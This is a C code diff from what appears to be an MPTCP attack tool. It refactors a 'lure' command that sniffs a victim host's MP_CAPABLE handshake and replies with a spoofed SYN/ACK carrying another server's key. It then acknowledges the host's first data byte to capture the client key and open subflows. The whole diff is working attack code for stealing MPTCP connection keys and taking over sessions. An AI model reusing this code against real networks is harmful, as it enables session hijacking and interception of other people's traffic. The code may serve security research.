@@ -5,30 +5,31 @@
  * join looks as if it were for the server's connection.
  */
 #include <stdio.h>
+#include <string.h>
 
 #include "attacker.h"
 
-#define PATH OTHER_HOST
-
 /* The next segment of that host's, with an option of this subtype */
-static uint8_t *hear(uint8_t subtype, int64_t until, struct frame *frame,
-		     struct segment *segment)
+uint8_t *hear_other(uint8_t subtype, int64_t until, struct frame *frame,
+		    struct segment *segment)
 {
+	const uint8_t *mac = links[OTHER_HOST][CLIENT].peer_mac;
 	uint8_t *option;
 
 	while (pump(until, false, frame)) {
-		option = parse_segment(frame, segment) ?
-				 find_mptcp(segment, subtype) :
-				 NULL;
+		if (!parse_segment(frame, segment) ||
+		    memcmp(segment->eth->ether_shost, mac, ETH_ALEN))
+			continue;
+		option = find_mptcp(segment, subtype);
 		if (option)
 			return option;
 	}
 	return NULL;
 }
 
-static void answer(const struct segment *heard, struct plan *plan)
+static void answer_other(const struct segment *heard, struct plan *plan)
 {
-	const struct link *link = &links[PATH][CLIENT];
+	const struct link *link = &links[OTHER_HOST][CLIENT];
 	struct frame frame;
 
 	plan->from = heard->to;
@@ -40,47 +41,62 @@ static void answer(const struct segment *heard, struct plan *plan)
 	send_frame(link, &frame);
 }
 
+/* To its SYN, as a server with this key */
+void accept_other(const struct segment *syn, uint64_t key)
+{
+	struct plan synack = { .flags = TH_SYN | TH_ACK,
+			       .seq = random32(),
+			       .options_len = CAPABLE_SYNACK_LEN };
+
+	put64(put_capable(synack.options, CAPABLE_SYNACK_LEN), key);
+	answer_other(syn, &synack);
+}
+
+/*
+ * Its first byte, which has both keys; 0 if none comes. It is acknowledged as data, or that
+ * host would not be sure of MPTCP.
+ */
+uint64_t take_first_byte(int64_t until)
+{
+	struct plan ack = { .flags = TH_ACK, .options_len = DATA_ACK_LEN };
+	struct segment segment;
+	struct frame frame;
+	const uint8_t *capable;
+	uint64_t key;
+
+	do
+		capable = hear_other(MP_CAPABLE, until, &frame, &segment);
+	while (capable && !segment.payload_len);
+	if (!capable)
+		return 0;
+	key = get64(capable + 4);
+	put_data_ack(ack.options, key_first_dsn(key) + segment.payload_len);
+	ack.seq = segment.ack;
+	answer_other(&segment, &ack);
+	return key;
+}
+
 /* Its first handshake, with the key of the server of conn=N; then it may open subflows */
 bool cmd_lure(void)
 {
-	struct plan synack = { .flags = TH_SYN | TH_ACK, .seq = random32() };
-	struct plan ack = { .flags = TH_ACK, .seq = synack.seq + 1 };
 	const struct connection *target = arg_connection("conn");
 	int64_t until = now_ms() + 20 * patience_ms;
 	struct connection *lured;
 	struct segment segment;
 	struct frame frame;
-	uint8_t *capable, *at;
 
 	lured = target ? add_connection() : NULL;
-	if (!lured || !hear(MP_CAPABLE, until, &frame, &segment))
+	if (!lured || !hear_other(MP_CAPABLE, until, &frame, &segment))
 		return false;
-	lured->path = PATH;
+	lured->path = OTHER_HOST;
 	lured->ends[CLIENT] = segment.from;
 	lured->ends[SERVER] = segment.to;
 	lured->keys[SERVER] = target->keys[SERVER];
-	at = put_capable(synack.options, CAPABLE_SYNACK_LEN);
-	at = put64(at, lured->keys[SERVER]);
-	synack.options_len = (unsigned int)(at - synack.options);
-	answer(&segment, &synack);
-
-	/* With its first byte; what is acknowledged there as data makes it sure of MPTCP */
-	do
-		capable = hear(MP_CAPABLE, until, &frame, &segment);
-	while (capable && !segment.payload_len);
-	if (!capable)
+	accept_other(&segment, lured->keys[SERVER]);
+	lured->keys[CLIENT] = take_first_byte(until);
+	lured->has_keys = lured->keys[CLIENT];
+	if (!lured->has_keys)
 		return false;
-	lured->keys[CLIENT] = get64(capable + 4);
-	lured->has_keys = true;
-	at = ack.options;
-	*at++ = MPTCP_KIND;
-	*at++ = 12;
-	*at++ = MP_DSS << 4;
-	*at++ = 0x3; /* data ack of 8 bytes */
-	at = put64(at,
-		   key_first_dsn(lured->keys[CLIENT]) + segment.payload_len);
-	ack.options_len = (unsigned int)(at - ack.options);
-	answer(&segment, &ack);
 	printf(" lured=1");
 	return true;
 }
